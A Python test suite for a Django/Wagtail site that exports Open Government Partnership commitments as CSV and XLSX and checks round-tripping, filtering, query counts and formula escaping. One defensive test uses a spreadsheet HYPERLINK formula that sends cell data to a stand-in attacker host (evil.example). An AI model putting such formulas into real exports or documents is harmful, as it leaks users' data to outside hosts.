"""The explorer's CSV and XLSX export: OGP's columns that import back, ours after them."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from django.apps import apps
from django.core import serializers
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from wagtail.models import Page, Site

from commitments import irm, services
from commitments.explorer import exports
from commitments.explorer import facets as explorer
from commitments.explorer.facts import facts_deferred
from commitments.models import (
    ActionPlanPage,
    CommitmentPage,
    IRMAssessment,
    MemberPage,
    Milestone,
    PolicyArea,
    StakeholderRole,
)
from commitments.ogp import columns as ogp
from commitments.ogp import export
from commitments.ogp.dates import parse_ogp_date
from commitments.ogp.importer import import_ogp_commitments
from commitments.vocabulary import POLICY_AREAS
from tracker.formulas import FORMULA_START
from tracker.models import Organisation, Sector

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()


def days_around(call):
    """``call()``'s result and the days it may have been made on (the day before and after the
    call: a run that crosses midnight must not fail)."""
    before = timezone.localdate()
    result = call()
    return result, {before, timezone.localdate()}


# -- helpers ----------------------------------------------------------------------------------


def download(client, url: str):
    response = client.get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


def export_csv(client, query: str = "") -> bytes:
    return download(client, "/en/commitments/export.csv" + (f"?{query}" if query else ""))[1]


def parse_csv(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def export_xlsx(client, query: str = ""):
    data = download(client, "/en/commitments/export.xlsx" + (f"?{query}" if query else ""))[1]
    return load_workbook(io.BytesIO(data))


def sheet_rows(sheet) -> tuple[list[str], list[dict]]:
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    return header, [dict(zip(header, row, strict=True)) for row in rows[1:]]


def reimport(tmp_path: Path, data: bytes, name: str = "exported.csv"):
    path = tmp_path / name
    path.write_bytes(data)
    return import_ogp_commitments(path)


def snapshot() -> str:
    """Every row of every table the import writes to, as JSON (timestamps included)."""
    models = [
        m
        for m in apps.get_models()
        if m._meta.app_label in {"commitments", "tracker", "wagtailcore", "taggit"}
        and not m._meta.proxy
        and m._meta.model_name not in {"referenceindex"}
    ]
    return "\n".join(serializers.serialize("json", m._default_manager.order_by("pk")) for m in models)


def _fields(obj, *exclude: str) -> dict:
    return {
        f.attname: getattr(obj, f.attname)
        for f in obj._meta.local_concrete_fields
        if f.attname not in exclude and not f.primary_key
    }


PAGE_FIELDS = ("title", "draft_title", "slug", "live", "depth", "seo_title", "show_in_menus")


def records() -> dict:
    """The imported record, field by field, keyed by OGP's identifiers (no keys, no paths)."""
    pages = {}
    for model, key in ((MemberPage, "code"), (ActionPlanPage, "plan_id"), (CommitmentPage, "ogp_id")):
        for page in model.objects.all():
            pages[page.path] = getattr(page, key)
    result: dict = {"members": {}, "plans": {}, "commitments": {}}
    for model, key, name in (
        (MemberPage, "code", "members"),
        (ActionPlanPage, "plan_id", "plans"),
        (CommitmentPage, "ogp_id", "commitments"),
    ):
        for page in model.objects.all():
            entry = _fields(page, "page_ptr_id")
            entry.update({f: getattr(page, f) for f in PAGE_FIELDS})
            entry["parent"] = pages.get(page.path[: -Page.steplen])
            if model is CommitmentPage:
                entry["policy_areas"] = sorted(a.name for a in page.policy_areas.all())
                entry["roles"] = [
                    (r.organisation.name, r.organisation.country.code, r.role, r.sort_order)
                    for r in page.stakeholder_roles.order_by("sort_order", "pk")
                ]
            result[name][getattr(page, key)] = entry
    result["assessments"] = {
        (a.commitment.ogp_id, a.report_type): _fields(a, "commitment_id")
        for a in IRMAssessment.objects.select_related("commitment")
    }
    result["organisations"] = {
        (o.name, o.country.code): _fields(o, "created_at", "updated_at") for o in Organisation.objects.all()
    }
    result["policy_areas"] = {
        a.name: (a.name_es, a.slug, a.parent.name if a.parent else None)
        for a in PolicyArea.objects.select_related("parent")
    }
    result["milestones"] = {
        (m.commitment.ogp_id, m.sort_order): _fields(m, "commitment_id")
        for m in Milestone.objects.select_related("commitment")
    }
    return result


def wipe_the_record() -> None:
    """Remove everything an import writes, as on a new database (the home page and site stay)."""
    home = Site.objects.get(is_default_site=True).root_page
    # Deferred, the explorer's facts are refreshed once the pages are gone (and so not kept).
    with facts_deferred():
        Page.objects.filter(path__startswith=home.path, depth__gt=home.depth).delete()
    Organisation.objects.all().delete()
    PolicyArea.objects.all().delete()
    assert not CommitmentPage.objects.exists()
    assert not MemberPage.objects.exists()
    assert not IRMAssessment.objects.exists()


def multiplied_sample(sample_csv: Path, target: Path, times: int) -> Path:
    """The sample written ``times`` times over, with new identifiers (members, plans,
    commitments) in each copy, so that it imports as ``times`` × 60 commitments."""
    with sample_csv.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        rows = list(reader)
    column = {name: header.index(name) for name in header}
    with target.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for copy in range(times):
            for row in rows:
                row = list(row)
                if copy:
                    row[column["Commitment Unique Identifier"]] += f"-{copy}"
                    row[column["Code"]] += f"X{copy}"
                    row[column["Country/Locality"]] += f" ({copy})"
                    row[column["Action Plan ID"]] += f"-{copy}"
                writer.writerow(row)
    return target


def add_commitments(count: int, *, prefix: str = "ZZ") -> list[CommitmentPage]:
    """New commitments with every relation the export reads, through the services."""
    home = Site.objects.get(is_default_site=True).root_page
    member, _ = services.member_page_upsert(
        home=home, code=f"{prefix}M", title=f"Member {prefix}", level="national", region="Europe"
    )
    plan, _ = services.action_plan_page_upsert(
        member=member,
        plan_id=f"AP_{prefix}01",
        title=f"Plan {prefix}",
        number=1,
        start_year=2024,
        end_year=2026,
    )
    areas = list(PolicyArea.objects.order_by("pk")[:2])
    government, _ = services.organisation_get_or_create(name=f"Ministry {prefix}", sector=Sector.GOVERNMENT)
    ngo, _ = services.organisation_get_or_create(name=f"NGO {prefix}", sector=Sector.CIVIL_SOCIETY)
    pages = []
    for n in range(count):
        page, _ = services.commitment_page_upsert(
            plan=plan,
            ogp_id=f"{prefix}{n:04d}",
            values={"title": f"Commitment {prefix} {n}", "full_title": f"Commitment {prefix} {n}"},
            policy_areas=areas,
            stakeholders=[(government, "lead_implementer"), (ngo, "monitor")],
        )
        for status, due in (("met", TODAY), ("scheduled", TODAY - datetime.timedelta(days=3))):
            services.milestone_create(commitment=page, title=f"Step {n}", status=status, end_date=due)
        services.irm_assessment_upsert(
            commitment=page,
            report_type="progress",
            values={"publication_year": 2025, "source_values": {"Specificity": "High"}},
        )
        pages.append(page)
    return pages


# -- the columns ------------------------------------------------------------------------------


def test_the_known_columns_are_ogps_export_in_its_order(sample_csv):
    with sample_csv.open(encoding="utf-8-sig", newline="") as handle:
        header = next(csv.reader(handle))
    areas = [name for name, _es, _parent in POLICY_AREAS]
    assert [
        *ogp.BEFORE_POLICY_AREAS,
        *areas,
        *ogp.AFTER_POLICY_AREAS,
    ] == header
    # Every column the importer maps to a field is written back from that field.
    assert set(export.FIELD_WRITERS) == set(ogp.FIELD_COLUMNS)
    assert ogp.BEFORE_POLICY_AREAS[-1] == ogp.POLICY_AREAS_AFTER
    assert ogp.AFTER_POLICY_AREAS[0] == ogp.POLICY_AREAS_BEFORE


def test_the_csv_has_ogps_header_then_ours(client, imported_once, sample_csv):
    (response, data), days = days_around(lambda: download(client, "/en/commitments/export.csv"))
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] in {
        f'attachment; filename="commitments-{d:%Y-%m-%d}.csv"' for d in days
    }
    assert data.startswith(b"\xef\xbb\xbf")  # a byte order mark, for Excel
    header, rows = parse_csv(data)
    with sample_csv.open(encoding="utf-8-sig", newline="") as handle:
        sample_header = next(csv.reader(handle))
    assert header[: len(sample_header)] == sample_header
    ours = header[len(sample_header) :]
    assert ours == [
        "Tracker: Page URL",
        "Tracker: Start date",
        "Tracker: End date",
        "Tracker: Milestones",
        "Tracker: Milestones met",
        "Tracker: Milestones late",
        "Tracker: Lateness",
        "Tracker: Starred",
        "Tracker: Government stakeholders",
        "Tracker: Civil society stakeholders",
        "Tracker: Business stakeholders",
        "Tracker: Academia stakeholders",
        "Tracker: Multilateral stakeholders",
        "Tracker: Stakeholders of unknown sector",
        "Tracker: Withdrawn on",
        "Tracker: Withdrawal reason",
    ]
    assert len(rows) == 60


def test_ogps_published_values_come_out_as_in_the_sample(client, imported_once, sample_csv):
    """Policy-area flags and every column kept as published are written back cell for cell."""
    _header, rows = parse_csv(export_csv(client))
    exported = {row["Commitment Unique Identifier"]: row for row in rows}
    with sample_csv.open(encoding="utf-8-sig", newline="") as handle:
        sample = list(csv.DictReader(handle))
    kept: dict[str, set[str]] = {}  # the IRM columns each commitment's assessments keep
    for assessment in IRMAssessment.objects.select_related("commitment"):
        kept.setdefault(assessment.commitment.ogp_id, set()).update(assessment.source_values)
    areas = {name for name, _es, _parent in POLICY_AREAS}
    checked = 0
    for row in sample:
        out = exported[row["Commitment Unique Identifier"]]
        for column, value in row.items():
            if column in ogp.FIELD_COLUMNS:
                continue
            if column in areas:  # a flag: 1, or 0 for anything else ("0", "ND")
                assert out[column] == ("1" if value in ("1", "1.0") else "0"), (row[ogp.ID], column)
            elif column in ogp.IRM_COLUMNS and column not in kept.get(row[ogp.ID], ()):
                # A report the IRM has not published ("ND", "NR"): no assessment, no cells.
                assert value.strip().upper() in {"", *irm.NO_VALUE_CODES}, (row[ogp.ID], column)
                assert out[column] == "", (row[ogp.ID], column)
            else:
                assert out[column] == value, (row[ogp.ID], column)
            checked += 1
    assert checked == 60 * (len(sample[0]) - len(ogp.FIELD_COLUMNS))


def test_the_xlsx_has_the_same_rows_typed(client, imported_once):
    (response, data), days = days_around(lambda: download(client, "/en/commitments/export.xlsx"))
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] in {
        f'attachment; filename="commitments-{d:%Y-%m-%d}.xlsx"' for d in days
    }
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Commitments", "About"]
    sheet = workbook["Commitments"]
    assert sheet.freeze_panes == "B2"
    assert sheet["A1"].font.b
    header, rows = sheet_rows(sheet)
    csv_header, csv_rows = parse_csv(export_csv(client))
    assert header == csv_header
    assert [r["Commitment Unique Identifier"] for r in rows] == [
        r["Commitment Unique Identifier"] for r in csv_rows
    ]
    by_id = {r["Commitment Unique Identifier"]: r for r in rows}
    ua = by_id["UA0087"]
    page = CommitmentPage.objects.get(ogp_id="UA0087")
    assert ua["Action Plan Number"] == page.get_parent().specific.number
    assert isinstance(ua["Year Of Submission"], int)
    assert ua["Commitment Title"] == page.full_title
    assert ua["Tracker: Page URL"] == "http://testserver/en/commitments/UA0087/"
    assert ua["Tracker: Start date"].date() == page.start_date
    assert ua["Open Contracting"] in (0, 1)
    # OGP's numbers are numbers, its words are words.
    scores = {r["IRM-Based Score"] for r in rows} - {None}
    assert -1 in scores
    assert all(isinstance(s, int) for s in scores)


def test_the_about_sheet_says_where_the_data_comes_from(client, imported_once):
    workbook, days = days_around(lambda: export_xlsx(client, "member=UKR&page=3"))
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row and row[0]}
    assert "Open Government Partnership" in about["Source"]
    assert "attribute OGP" in about["Source"]
    assert about["Filters"] == "member=UKR"
    assert about["In the explorer"] == "http://testserver/en/commitments/?member=UKR"
    assert about["Exported on"].date() in days
    assert about["Commitments"] == CommitmentPage.objects.filter(ogp_id__startswith="UA").count()
    assert "Tracker:" in about["Columns"]


def test_the_workbook_speaks_spanish_from_the_spanish_site(client, imported_once):
    data = download(client, "/es/commitments/export.xlsx")[1]
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames[0] == "Compromisos"
    header, rows = sheet_rows(workbook.worksheets[0])
    # The data keeps its stable English headers (OGP's, and ours); the links are the Spanish pages.
    assert header[0] == "Commitment Unique Identifier"
    assert rows[0]["Tracker: Page URL"].startswith("http://testserver/es/commitments/")


# -- our columns ------------------------------------------------------------------------------


def test_our_columns_count_milestones_and_name_stakeholders_by_sector(client, imported_once):
    page = CommitmentPage.objects.get(ogp_id="UA0087")
    day = datetime.timedelta(days=1)
    services.milestone_create(commitment=page, title="Published", status="met", end_date=TODAY - day)
    services.milestone_create(commitment=page, title="Overdue", status="scheduled", end_date=TODAY - 5 * day)
    services.milestone_create(commitment=page, title="Later", status="scheduled", end_date=TODAY + 90 * day)
    business, _ = services.organisation_get_or_create(
        name="Ukrainian Business Association", sector="business"
    )
    university, _ = services.organisation_get_or_create(name="Kyiv University", sector="academia")
    services.stakeholder_role_add(commitment=page, organisation=business, role="monitor")
    services.stakeholder_role_add(commitment=page, organisation=university, role="data_publisher")

    _header, rows = parse_csv(export_csv(client))
    row = next(r for r in rows if r["Commitment Unique Identifier"] == "UA0087")
    assert row["Tracker: Milestones"] == "3"
    assert row["Tracker: Milestones met"] == "1"
    assert row["Tracker: Milestones late"] == "1"
    assert row["Tracker: Lateness"] == "overdue"
    assert row["Tracker: Business stakeholders"] == "Ukrainian Business Association"
    assert row["Tracker: Academia stakeholders"] == "Kyiv University"
    assert row["Tracker: Start date"] == page.start_date.isoformat()
    assert row["Tracker: Page URL"] == "http://testserver/en/commitments/UA0087/"
    without = next(r for r in rows if r["Commitment Unique Identifier"] == "UA0001")
    assert (without["Tracker: Milestones"], without["Tracker: Lateness"]) == ("0", "")

    # Against the database, for every row and sector, in the XLSX file too.
    _header, xlsx_rows = sheet_rows(export_xlsx(client)["Commitments"])
    for xrow in xlsx_rows:
        commitment = CommitmentPage.objects.get(ogp_id=xrow["Commitment Unique Identifier"])
        assert xrow["Tracker: Milestones"] == commitment.milestones.count()
        assert xrow["Tracker: Milestones met"] == commitment.milestones.filter(status="met").count()
        for sector, column in export.STAKEHOLDER_HEADERS.items():
            names = set(
                StakeholderRole.objects.filter(
                    commitment=commitment, organisation__sector=sector
                ).values_list("organisation__name", flat=True)
            )
            assert set((xrow[column] or "").split("; ")) - {""} == names, (commitment.ogp_id, column)


def test_a_date_without_published_text_is_written_as_the_importer_reads_it(client, imported_once):
    CommitmentPage.objects.filter(ogp_id="UA0087").update(
        start_date=datetime.date(2019, 3, 1), start_date_text=""
    )
    _header, rows = parse_csv(export_csv(client))
    row = next(r for r in rows if r["Commitment Unique Identifier"] == "UA0087")
    assert row["Start Date"] == "2019-03-01"
    assert parse_ogp_date(row["Start Date"]) == (datetime.date(2019, 3, 1), True)


# -- the round trip ---------------------------------------------------------------------------


def test_importing_the_csv_again_changes_nothing(client, imported_once, tmp_path):
    before = snapshot()
    report = reimport(tmp_path, export_csv(client))
    assert report.outcomes["created"] == 0
    assert report.outcomes["updated"] == 0
    assert report.outcomes["unchanged"] > 60
    assert report.summary == imported_once.summary
    # The same warnings as the sample's (about the same cells), none about our columns.
    assert {(w.ogp_id, w.message) for w in report.warnings} == {
        (w.ogp_id, w.message) for w in imported_once.warnings
    }
    assert snapshot() == before


def test_the_csv_imports_into_an_empty_database_as_the_same_records(client, imported_once, tmp_path):
    original = records()
    data = export_csv(client)
    wipe_the_record()
    report = reimport(tmp_path, data)
    assert report.summary == imported_once.summary
    assert records() == original


def test_importing_ignores_our_columns_wherever_they_are(sample_copy):
    # One of ours among the policy areas, one at the end: neither is an area nor kept as extra.
    with sample_copy.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    position = rows[0].index(ogp.POLICY_AREAS_AFTER) + 1
    for n, row in enumerate(rows):
        row.insert(position, "Tracker: Note" if n == 0 else "1")
        row.append("Tracker: Milestones" if n == 0 else "7")
    with sample_copy.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    report = import_ogp_commitments(sample_copy)
    assert report.summary.startswith("imported: members=28 action_plans=41 commitments=60")
    assert not PolicyArea.objects.filter(name__startswith="Tracker").exists()
    for extra in CommitmentPage.objects.values_list("ogp_extra", flat=True):
        assert not [key for key in extra if key.startswith("Tracker")]
    assert not [w for w in report.warnings if "Tracker" in w.message]


def test_a_column_ogp_adds_later_is_exported_and_imported_back(client, sample_copy, tmp_path):
    with sample_copy.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[0].append("New OGP Column")
    for n, row in enumerate(rows[1:]):
        row.append(f"value {n}")
    with sample_copy.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    import_ogp_commitments(sample_copy)
    before = snapshot()
    data = export_csv(client)
    header, exported = parse_csv(data)
    assert header.index("New OGP Column") == header.index("Tracker: Page URL") - 1
    assert {r["New OGP Column"] for r in exported} == {f"value {n}" for n in range(60)}
    report = reimport(tmp_path, data)
    assert report.outcomes["updated"] == 0
    assert snapshot() == before


# -- formulas ---------------------------------------------------------------------------------


def test_text_that_looks_like_a_formula_stays_text_and_still_round_trips(client, imported_once, tmp_path):
    page = CommitmentPage.objects.get(ogp_id="UA0087")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    page.full_title = page.title = formula
    page.short_title = "+1 more"
    page.theme = "@SUM(1+1)"
    page.save()
    organisation, _ = services.organisation_get_or_create(name="-2+3 Consulting", sector="business")
    services.stakeholder_role_add(commitment=page, organisation=organisation, role="monitor")

    data = export_csv(client)
    _header, rows = parse_csv(data)
    row = next(r for r in rows if r["Commitment Unique Identifier"] == "UA0087")
    # Every formula-like cell gets a leading apostrophe, which the importer takes off again.
    assert row["Commitment Title"] == "'" + formula
    assert row["Short Title"] == "'+1 more"
    assert row["Theme"] == "'@SUM(1+1)"
    assert row["Tracker: Business stakeholders"] == "'-2+3 Consulting"
    # OGP's plain numbers are left as published: a number, not a formula.
    assert "-1" in {r["IRM-Based Score"] for r in rows}
    for r in rows:
        for column, value in r.items():
            assert value == "-1" or not value.startswith(FORMULA_START), (column, value)

    before = snapshot()
    report = reimport(tmp_path, data)
    assert report.outcomes["updated"] == 0
    assert snapshot() == before

    _header, xlsx_rows = sheet_rows(export_xlsx(client)["Commitments"])
    xrow = next(r for r in xlsx_rows if r["Commitment Unique Identifier"] == "UA0087")
    assert xrow["Commitment Title"] == formula  # read back as a string, not as a formula
    workbook = export_xlsx(client)
    title_column = [c.value for c in workbook["Commitments"][1]].index("Commitment Title") + 1
    cells = [workbook["Commitments"].cell(row=n, column=title_column) for n in range(2, len(xlsx_rows) + 2)]
    formula_cell = next(c for c in cells if c.value == formula)
    assert formula_cell.data_type == "s"


def test_xlsx_drops_characters_xml_cannot_hold(client, imported_once):
    CommitmentPage.objects.filter(ogp_id="UA0087").update(short_title="Tab\x0bbed\x1f text")
    _header, rows = sheet_rows(export_xlsx(client)["Commitments"])
    row = next(r for r in rows if r["Commitment Unique Identifier"] == "UA0087")
    assert row["Short Title"] == "Tabbed text"


# -- the filtered set -------------------------------------------------------------------------


@pytest.mark.parametrize("query", ["member=UKR", "sort=title", "member=UKR&member=ESP&sort=newest", "page=2"])
def test_the_export_is_the_explorers_filtered_set_in_its_order(client, imported_once, query):
    expected = list(explorer.filtered_commitments(QueryDict(query)).values_list("ogp_id", flat=True))
    assert expected
    _header, rows = parse_csv(export_csv(client, query))
    assert [r["Commitment Unique Identifier"] for r in rows] == expected
    _header, xlsx_rows = sheet_rows(export_xlsx(client, query)["Commitments"])
    assert [r["Commitment Unique Identifier"] for r in xlsx_rows] == expected


def test_filters_narrow_and_sorting_reorders(client, imported_once):
    everything = [r["Commitment Unique Identifier"] for r in parse_csv(export_csv(client))[1]]
    ukraine = [r["Commitment Unique Identifier"] for r in parse_csv(export_csv(client, "member=UKR"))[1]]
    by_title = [r["Commitment Unique Identifier"] for r in parse_csv(export_csv(client, "sort=title"))[1]]
    assert everything == sorted(everything)
    assert set(ukraine) == set(
        CommitmentPage.objects.filter(ogp_id__startswith="UA").values_list("ogp_id", flat=True)
    )
    assert len(ukraine) < len(everything)
    assert sorted(by_title) == everything
    assert by_title != everything


def test_the_export_follows_whatever_the_explorer_selects(client, imported_once, monkeypatch):
    def reversed_ukraine(params):
        return CommitmentPage.objects.live().filter(ogp_id__startswith="UA").order_by("-ogp_id")

    monkeypatch.setattr(explorer, "filtered_commitments", reversed_ukraine)
    expected = list(reversed_ukraine(None).values_list("ogp_id", flat=True))
    _header, rows = parse_csv(export_csv(client))
    assert [r["Commitment Unique Identifier"] for r in rows] == expected


# -- queries ----------------------------------------------------------------------------------


def _queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as context:
        download(client, url)
    return len(context.captured_queries)


def test_the_number_of_queries_does_not_grow_with_the_rows(client, imported_once, sample_csv, tmp_path):
    urls = ["/en/commitments/export.csv", "/en/commitments/export.xlsx"]
    for url in urls:
        download(client, url)  # warm what is cached once per process (site, locale)
    small = [_queries(client, url) for url in urls]
    # Twice the sample again (the first copy changes nothing), and commitments with milestones,
    # roles and assessments made through the services.
    import_ogp_commitments(multiplied_sample(sample_csv, tmp_path / "twice.csv", 2))
    add_commitments(30)
    assert CommitmentPage.objects.live().count() == 150
    assert [_queries(client, url) for url in urls] == small
    assert max(small) < 20
    _header, rows = parse_csv(export_csv(client))
    assert len(rows) == 150


def test_chunks_do_not_change_the_rows(client, imported_once, monkeypatch):
    whole = export_csv(client)
    monkeypatch.setattr(export, "CHUNK_SIZE", 7)  # the prefetches run once per chunk of 7
    assert export_csv(client) == whole
